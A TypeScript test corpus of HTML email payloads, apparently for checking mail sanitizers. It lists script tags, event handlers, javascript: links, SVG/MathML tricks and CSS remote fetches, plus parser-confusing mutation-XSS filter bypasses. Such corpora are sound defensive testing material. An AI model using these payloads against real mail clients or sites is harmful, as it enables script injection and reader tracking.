/**
 * HTML that tries to run a script or to fetch something when a mail is looked at (attack A10): written here, a line for
 * each class of ways that were found to get through filters of markup. What is `inert` does nothing in a browser that is
 * given it raw: it was made to come out of a filter as something else.
 */

export type Payload = {
  readonly name: string
  readonly html: string
  /** Acts only when a person clicks on what is in it. */
  readonly onClick?: true
  readonly inert?: true
}

/** `run` is a call that tells that a script ran; `fetch` an address outside, which tells that it was asked for. */
export const payloads = (run: string, outside: string): readonly Payload[] => [
  ...scripts(run, outside),
  ...handlers(run),
  ...addresses(run),
  ...foreign(run, outside),
  ...documents(run, outside),
  ...pictures(outside),
  ...styles(outside),
  ...links(outside),
  ...mutations(run, outside),
]

const scripts = (run: string, outside: string): readonly Payload[] => [
  { name: 'a script', html: `<script>${run}</script>` },
  { name: 'a script in odd case, with a slash', html: `<ScRiPt/x>${run}</sCrIpT >` },
  { name: 'a script from outside', html: `<script src="${outside}"></script>` },
  { name: 'a module from outside', html: `<script type=module src="${outside}"></script>` },
  { name: 'a script that is never closed', html: `<script>${run}//`, inert: true },
  { name: 'a script behind a null', html: `<scr\0ipt>${run}</scr\0ipt>`, inert: true },
  { name: 'a script cut in two by a script', html: `<scr<script>ipt>${run}</scr</script>ipt>`, inert: true },
  { name: 'a script behind a comment that ends oddly', html: `<!--><script>${run}</script>-->` },
  { name: 'a script behind --!>', html: `<!-- --!><script>${run}</script>` },
  { name: 'a script behind a conditional', html: `<!--[if gte mso 9]><![endif]--><script>${run}</script>` },
  { name: 'a script in a body of its own', html: `</body></html><html><body><script>${run}</script>` },
]

const handlers = (run: string): readonly Payload[] => [
  { name: 'onerror of a picture', html: `<img src=x: onerror=${run}>` },
  { name: 'onerror behind slashes', html: `<img/src="x:"/onerror=${run}>` },
  { name: 'onerror with blanks that are not', html: `<img\fsrc=x:\tonerror\n=\r${run}>` },
  {
    name: 'onload of a picture',
    html: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${run} onerror=${run}>`,
  },
  { name: 'onload of a body', html: `<body onload=${run}>` },
  { name: 'onpageshow of a body', html: `<body onpageshow=${run}>` },
  {
    name: 'a handler written in entities',
    html: `<img src=x: onerror=&#${run.charCodeAt(0)};${run.slice(1)}>`,
  },
  { name: 'ontoggle of details', html: `<details open ontoggle=${run}>x</details>` },
  // Of all that is on a page only one takes the focus by itself, and none when the page has had it: the rest take it by a click.
  { name: 'onfocus of what takes the focus', html: `<input autofocus onfocus=${run}>`, onClick: true },
  { name: 'onfocus by tabindex', html: `<p tabindex=0 autofocus onfocus=${run}>x`, onClick: true },
  {
    name: 'onanimationstart',
    html: `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${run}>x`,
  },
  { name: 'onerror of a sound', html: `<audio src=x: onerror=${run}></audio>` },
  { name: 'onerror of a source', html: `<video><source src=x: onerror=${run}></video>` },
  { name: 'onstart of a marquee', html: `<marquee onstart=${run}>x</marquee>`, inert: true },
  { name: 'onclick', html: `<p onclick=${run}>x</p>`, onClick: true },
]

const addresses = (run: string): readonly Payload[] => [
  { name: 'a javascript link', html: `<a href="javascript:${run}">x</a>`, onClick: true },
  { name: 'a javascript link with a tab in it', html: `<a href="java\tscript:${run}">x</a>`, onClick: true },
  {
    name: 'a javascript link in entities',
    html: `<a href="&#106;avascript&colon;${run}">x</a>`,
    onClick: true,
  },
  {
    name: 'a javascript link behind a control',
    html: `<a href="\x01javascript:${run}">x</a>`,
    onClick: true,
  },
  {
    name: 'a javascript area',
    html: `<map name=m><area shape=default href="javascript:${run}"></map><img usemap=#m width=20 height=20 src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=">`,
    onClick: true,
  },
  {
    name: 'a javascript button',
    html: `<form><button formaction="javascript:${run}">x</button></form>`,
    onClick: true,
  },
  {
    name: 'a javascript form',
    html: `<form action="javascript:${run}"><input type=submit value=x></form>`,
    onClick: true,
  },
  {
    name: 'a data link',
    html: `<a href="data:text/html,<script>${run}</script>">x</a>`,
    onClick: true,
    inert: true,
  },
  {
    name: 'a base that is javascript',
    html: `<base href="javascript:/a/-${run}//"><a href=#>x</a>`,
    onClick: true,
    inert: true,
  },
]

const foreign = (run: string, outside: string): readonly Payload[] => [
  { name: 'onload of an SVG', html: `<svg onload=${run}>` },
  { name: 'a script in an SVG', html: `<svg><script>${run}</script></svg>` },
  {
    name: 'a script in an SVG, written in entities',
    html: `<svg><script>&#${run.charCodeAt(0)};${run.slice(1)}</script></svg>`,
  },
  { name: 'onbegin of an animation', html: `<svg><animate onbegin=${run} attributeName=x dur=1s>` },
  {
    name: 'a link that an animation makes',
    html: `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=20 y=20>x</text></a></svg>`,
    onClick: true,
  },
  {
    name: 'a link that a set makes',
    html: `<svg><a><set attributeName=href to="javascript:${run}"/><text x=20 y=20>x</text></a></svg>`,
    onClick: true,
  },
  {
    name: 'HTML in a foreignObject',
    html: `<svg><foreignObject><img src=x: onerror=${run}></foreignObject></svg>`,
  },
  { name: 'a picture in an SVG', html: `<svg><image href="${outside}" /></svg>` },
  { name: 'a use of something outside', html: `<svg><use href="${outside}#x" /></svg>`, inert: true },
  {
    name: 'a picture that a filter takes',
    html: `<svg><filter id=f><feImage href="${outside}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  },
  {
    name: 'a link in MathML',
    html: `<math><mrow href="javascript:${run}"><mtext>x</mtext></mrow></math>`,
    inert: true,
  },
  {
    name: 'a style in MathML that ends in HTML',
    html: `<math><mtext><table><mglyph><style><img src=x: onerror=${run}>`,
    inert: true,
  },
]

const documents = (run: string, outside: string): readonly Payload[] => [
  {
    name: 'a frame with a document in it',
    html: `<iframe srcdoc="<script>${run.replace('top', 'parent.parent')}</script>"></iframe>`,
  },
  { name: 'a frame from outside', html: `<iframe src="${outside}"></iframe>` },
  { name: 'a javascript frame', html: `<iframe src="javascript:${run}"></iframe>` },
  { name: 'a frameset', html: `<frameset onload=${run}><frame src="${outside}"></frameset>` },
  { name: 'an object', html: `<object data="${outside}"></object>` },
  { name: 'an embed', html: `<embed src="${outside}">` },
  { name: 'a portal to elsewhere', html: `<portal src="${outside}"></portal>`, inert: true },
  { name: 'a refresh to elsewhere', html: `<meta http-equiv=refresh content="0;url=${outside}">` },
  {
    name: 'a refresh that is javascript',
    html: `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    inert: true,
  },
  {
    name: 'a form that posts elsewhere',
    html: `<form action="${outside}" target=_self><button>x</button></form>`,
    onClick: true,
  },
  {
    name: 'a template with a shadow',
    html: `<div><template shadowrootmode=open><img src=x: onerror=${run}></template></div>`,
  },
  { name: 'a noscript', html: `<noscript><img src=x: onerror=${run}></noscript>`, inert: true },
  { name: 'a manifest', html: `<html manifest="${outside}">`, inert: true },
]

const pictures = (outside: string): readonly Payload[] => [
  { name: 'a picture', html: `<img src="${outside}">` },
  { name: 'a picture called image', html: `<image src="${outside}">` },
  { name: 'a picture without a scheme', html: `<img src="${outside.slice('http:'.length)}">` },
  { name: 'a picture with backslashes', html: `<img src="${outside.replaceAll('/', '\\')}">` },
  {
    name: 'a picture with a line end in its address',
    html: `<img src="ht\ntp${outside.slice('http'.length)}">`,
  },
  { name: 'a srcset', html: `<img srcset="${outside} 1x">` },
  { name: 'a source of a picture', html: `<picture><source srcset="${outside}"><img></picture>` },
  { name: 'a picture preloaded for a size', html: `<link rel=preload as=image imagesrcset="${outside} 1x">` },
  { name: 'a background of a body', html: `<body background="${outside}">` },
  { name: 'a background of a cell', html: `<table><td background="${outside}">x</table>` },
  { name: 'a button that is a picture', html: `<input type=image src="${outside}">` },
  { name: 'a poster', html: `<video poster="${outside}"></video>` },
  { name: 'a film', html: `<video src="${outside}" preload=auto></video>` },
  { name: 'a sound', html: `<audio src="${outside}" preload=auto></audio>` },
  { name: 'a track of a film', html: `<video src=x:><track default src="${outside}"></video>`, inert: true },
]

const styles = (outside: string): readonly Payload[] => {
  const inStyle = (name: string, css: string, more: Partial<Payload> = {}): Payload => ({
    name,
    html: `<style>${css}</style><p class=c id=i>x</p>`,
    ...more,
  })
  return [
    inStyle('a background', `p{background:url(${outside})}`),
    inStyle('a background in odd writing', `p{background:u\\72 l("${outside}")}`, { inert: true }),
    inStyle('a background behind a comment', `p{background/**/:/**/url(/**/${outside})}`, { inert: true }),
    inStyle('an import', `@import "${outside}";`),
    inStyle('an import by url', `@import url(${outside}) screen;`),
    inStyle('a font', `@font-face{font-family:f;src:url(${outside})}p{font-family:f}`),
    inStyle('a list mark', `p{display:list-item;list-style:url(${outside})}`),
    inStyle('text that is a picture', `p::before{content:url(${outside})}`),
    inStyle('a border that is a picture', `p{border:9px solid;border-image:url(${outside}) 1}`),
    inStyle('a mask', `p{-webkit-mask-image:url(${outside})}`),
    inStyle('a pointer', `p{cursor:url(${outside}),auto}`, { inert: true }),
    inStyle('an image-set', `p{background:image-set("${outside}" 1x)}`),
    inStyle('a -webkit-image-set', `p{background:-webkit-image-set(url(${outside}) 1x)}`),
    inStyle('a cross-fade', `p{background:-webkit-cross-fade(url(${outside}),url(${outside}),50%)}`),
    inStyle('a variable', `p{--x:url(${outside});background:var(--x)}`),
    inStyle('a rule in a layer', `@layer a{p{background:url(${outside})}}`),
    inStyle('a rule in a container', `@supports (color:red){p{background:url(${outside})}}`),
    inStyle('a rule in a rule', `body{& p{background:url(${outside})}}`),
    inStyle('a guess at what is in the page', `p[class^=c]{background:url(${outside})}`),
    inStyle('a shape', `p{float:left;shape-outside:url(${outside})}`),
    inStyle('a filter', `p{filter:url(${outside}#f)}`, { inert: true }),
    inStyle('an expression of old', `p{width:expression(alert(1))}`, { inert: true }),
    inStyle('a binding of old', `p{-moz-binding:url(${outside})}`, { inert: true }),
    { name: 'a background of one element', html: `<p style="background:url(${outside})">x` },
    {
      name: 'a background of one element, quoted twice',
      html: `<p style="background:url(&quot;${outside}&quot;)">x`,
    },
    {
      name: 'a background that begins in a string',
      html: `<p style="color:'\n;background:url(${outside})">x`,
    },
  ]
}

const links = (outside: string): readonly Payload[] => [
  ...RELATIONS.map((rel) => ({
    name: `a link: ${rel}`,
    html: `<link rel=${rel} href="${outside}">`,
    ...(QUIET.has(rel) && INERT),
  })),
  { name: 'a ping', html: `<a ping="${outside}" href="#x">x</a>`, onClick: true },
]

const RELATIONS = [
  'stylesheet',
  'icon',
  'preload as=image',
  'prefetch',
  'modulepreload',
  'preconnect',
  'dns-prefetch',
  'prerender',
]
const INERT = { inert: true } as const
/** A name that is looked up and a connection that asks for nothing have no name here; a frame has no icon. */
const QUIET: ReadonlySet<string> = new Set(['dns-prefetch', 'preconnect', 'prerender', 'icon'])

/** Read once they are one thing, read again, after a filter wrote them, another. */
const mutations = (run: string, outside: string): readonly Payload[] => {
  const img = `<img src=x: onerror=${run}>`
  return [
    { name: 'a title in an SVG style', html: `<svg></p><style><a id="</style>${img}">` },
    {
      name: 'nested forms in MathML',
      html: `<form><math><mtext></form><form><mglyph><style></math>${img}`,
      inert: true,
    },
    { name: 'a comment in an SVG style', html: `<svg><style><!--</style>${img}--></style>`, inert: true },
    { name: 'CDATA that HTML does not know', html: `<![CDATA[><a b="]]>${img}">`, inert: true },
    { name: 'CDATA in an SVG', html: `<svg><![CDATA[</svg>${img}]]></svg>`, inert: true },
    { name: 'a noscript in an attribute', html: `<noscript><p title="</noscript>${img}">` },
    { name: 'a textarea in an attribute', html: `<textarea><p title="</textarea>${img}">` },
    { name: 'an xmp in an attribute', html: `<xmp><p title="</xmp>${img}">` },
    { name: 'an iframe in an attribute', html: `<iframe><p title="</iframe>${img}">` },
    { name: 'a noembed in an attribute', html: `<noembed><p title="</noembed>${img}">` },
    { name: 'a plaintext in a title', html: `<title><p title="</title>${img}">` },
    { name: 'a select that ends early', html: `<select><style></select>${img}</style>`, inert: true },
    { name: 'a style that ends within an attribute', html: `<style><p title="</style>${img}">` },
    { name: 'backticks for quotes', html: `<p title="\`${img}\`">x`, inert: true },
    { name: 'a quote that is not closed', html: `<p title="x ${img}`, inert: true },
    { name: 'an end tag with attributes', html: `</p title=">${img}">`, inert: true },
    { name: 'an instruction', html: `<?xml ><img src="${outside}"> ?>` },
    { name: 'a doctype that does not end', html: `<!doctype x "><img src='${outside}'>` },
    {
      name: 'a frame that hides a picture',
      html: `<table><svg><style><!--</style><img src="${outside}">--></table>`,
    },
    {
      name: 'UTF-7 of old',
      html: `<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
      inert: true,
    },
  ]
}
